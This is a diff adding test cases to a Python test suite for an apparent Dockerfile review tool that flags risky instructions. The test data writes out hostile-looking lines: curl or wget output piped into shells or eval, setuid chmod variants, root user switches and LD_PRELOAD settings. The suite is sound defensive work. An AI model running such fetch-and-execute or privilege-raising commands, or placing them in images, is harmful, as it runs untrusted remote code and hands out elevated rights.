@@ -17,6 +17,16 @@ from supervise.dockerfile_review import MOST_INSTRUCTIONS, changes, flags_of, in
         ("RUN bash -c \"$(curl -fsSL https://x.example)\"", "script straight from the network"),
         ("RUN true && \\\n    curl https://x.example | \\\n    sh", "script straight from the network"),
         ("RUN <<EOF\ncurl https://x.example | sh\nEOF", "script straight from the network"),
+        ("RUN curl https://x.example | /bin/sh", "script straight from the network"),
+        ("RUN curl https://x.example | sudo -E bash -", "script straight from the network"),
+        ("RUN curl https://x.example | sudo -u me /usr/bin/env bash", "script straight from the network"),
+        ("RUN curl https://x.example | env bash", "script straight from the network"),
+        ("RUN curl https://x.example | A=1 bash -s", "script straight from the network"),
+        ("RUN curl https://x.example | tee /x | python3.11", "script straight from the network"),
+        ("RUN curl https://x.example/?a=1&b=2 | sh", "script straight from the network"),
+        ("RUN curl 'https://x.example/?a=1;b=2' | sh", "script straight from the network"),
+        ("RUN sh -c 'curl https://x.example | sh'", "script straight from the network"),
+        ("RUN eval \"$(wget -qO- https://x.example)\"", "script straight from the network"),
         ("RUN curl -k https://x.example -o y", "certificate checks off"),
         ("RUN pip install --trusted-host x.example y", "certificate checks off"),
         ("RUN pip install --index-url https://x.example y", "another index"),
@@ -26,11 +36,30 @@ from supervise.dockerfile_review import MOST_INSTRUCTIONS, changes, flags_of, in
         ("RUN --mount=type=secret,id=x true", "secret or an SSH agent"),
         ("RUN chmod u+s /bin/x", "gains rights"),
         ("RUN chmod 4755 /bin/x", "gains rights"),
+        ("RUN chmod -R 4755 /bin/x", "gains rights"),
+        ("RUN chmod 5755 /bin/x", "gains rights"),
+        ("RUN chmod 02755 /bin/x", "gains rights"),
+        ("RUN chmod u=rwxs /bin/x", "gains rights"),
+        ("RUN chmod a+x,u+s /bin/x", "gains rights"),
+        ("RUN chmod '4755' /bin/x", "gains rights"),
+        ("RUN install -o root -m 4755 a /bin/x", "gains rights"),
+        ("RUN install -Dm4755 a /bin/x", "gains rights"),
+        ("RUN mkdir --mode=2775 /x", "gains rights"),
+        ("COPY --chmod=4755 a /bin/x", "gains rights"),
         ("RUN echo eHg= | base64 -d", "cannot be read here"),
         ("ADD https://x.example/y /z", "fetches a file"),
         ("COPY --from=docker.io/evil/x:1 /a /b", "another image"),
+        ("COPY --from=postgres /a /b", "another image"),
+        ("COPY --from=0 /a /b", "another image"),
+        ("COPY --chown=1 --fr\\om=evil /a /b", "another image"),
+        ("RUN --mount=type=bind,from=postgres,target=/x true", "another image"),
         ("USER root", "switches to root"),
+        ('USER "root"', "switches to root"),
+        ("USER 00:agent", "switches to root"),
+        ("USER ${NAME:-root}", "user by a variable"),
         ("ENV HTTPS_PROXY=http://x.example", "how the proxy is found"),
+        ("ENV FTP_PROXY=http://x.example", "how the proxy is found"),
+        ("ENV npm_config_https_proxy http://x.example", "how the proxy is found"),
         ("ENV NODE_EXTRA_CA_CERTS=/x", "certificates are believed"),
         ("ENV LD_PRELOAD=/x.so", "code programs load"),
         ("ENV GITHUB_TOKEN=abc", "credential into the image"),
@@ -48,11 +77,14 @@ def test_a_risky_instruction_is_flagged_with_its_line(line: str, flag: str) -> N
     [
         "RUN apt-get update && apt-get install -y curl", "COPY --from=build /a /b", "USER agent",
         "ENV LANG=C.UTF-8", "WORKDIR /workspace", "RUN curl -fsSLo x https://x.example",
-        "RUN chmod 755 /bin/x", "RUN chmod +x /bin/x",
+        "RUN chmod 755 /bin/x", "RUN chmod +x /bin/x", "RUN chmod 0755 /bin/x", "RUN chmod -R a=rX share",
+        "RUN install -m 0755 a /bin/x", "RUN curl -fsSLo x https://x.example && cat y | sort",
+        "RUN curl https://x.example | tar xz", "COPY --from=0 /a /b", "COPY --from=BUILD /a /b",
+        "USER agent0",
     ],
 )  # fmt: skip
 def test_an_ordinary_one_is_not(line: str) -> None:
-    assert flags_of(f"FROM debian:12 AS build\n{line}\n") == ()
+    assert flags_of(f"FROM debian:12 AS build\nFROM debian:12\n{line}\n") == ()
 
 
 @pytest.mark.parametrize(
@@ -64,14 +96,19 @@ def test_an_ordinary_one_is_not(line: str) -> None:
         ("FROM debian:12", False),
         ("FROM debian@sha256:" + "0" * 64, False),
         ("FROM scratch", False),
+        ("FROM localhost:5000/agent", True),
+        ("FROM localhost:5000/agent:1", False),
+        ("FROM debian:$TAG", True),
+        ("FROM debian:12 AS build\nFROM build", False),
     ],
 )
 def test_a_base_image_needs_a_version(line: str, is_loose: bool) -> None:
     assert bool(flags_of(line + "\n")) is is_loose
 
 
-def test_another_frontend_is_told() -> None:
-    assert "another program reads the Dockerfile" in flags_of("# syntax=evil/x\nFROM debian:12\n")[0]
+@pytest.mark.parametrize("mark", ["", "\ufeff"])
+def test_another_frontend_is_told(mark: str) -> None:
+    assert "another program reads the Dockerfile" in flags_of(f"{mark}# syntax=evil/x\nFROM debian:12\n")[0]
 
 
 def test_an_instruction_is_compared_whole() -> None:
@@ -89,6 +126,28 @@ def test_an_instruction_is_compared_whole() -> None:
 def test_what_cannot_be_read_has_no_instructions() -> None:
     assert changes("NONSENSE", "FROM x:1\n") == ([], 0)
     assert instructions_of("  \n") == []
+
+
+@pytest.mark.parametrize(
+    "filling",
+    [
+        "curl ",
+        "curl |",
+        "curl|sudo /",
+        "curl|/",
+        "sh -a -b ",
+        "chmod -",
+        "install -m+r+r",
+        "--mount=",
+        "'\"",
+        "(a_",
+    ],
+)
+def test_a_hostile_text_is_bounded_in_time(filling: str) -> None:
+    text = f"FROM x:1\nRUN x {filling * (1_000_000 // len(filling))}\n"
+    start = time.process_time()
+    flags_of(text)
+    assert time.process_time() - start < 10, "a quadratic step takes minutes here"
 
 
 def test_a_hostile_text_is_bounded_in_time_and_size() -> None:
@@ -120,6 +179,8 @@ def test_a_hostile_text_is_bounded_in_time_and_size() -> None:
          ("takes away what the present Dockerfile has: " + "; ".join(f"'RUN {n}'" for n in range(5)) +
           " and 2 more",)),
         ("FROM d:1\nNOSUCH x\n", "FROM d:1\n", ()),
+        ("FROM d:1 AS x\nFROM e:1\n", "FROM e:1\n",
+         ("takes away what the present Dockerfile has: 'FROM d:1 AS x'",)),
     ],
 )  # fmt: skip
 def test_a_moved_base_and_removed_lines_are_told(before: str, after: str, expected: tuple[str, ...]) -> None:
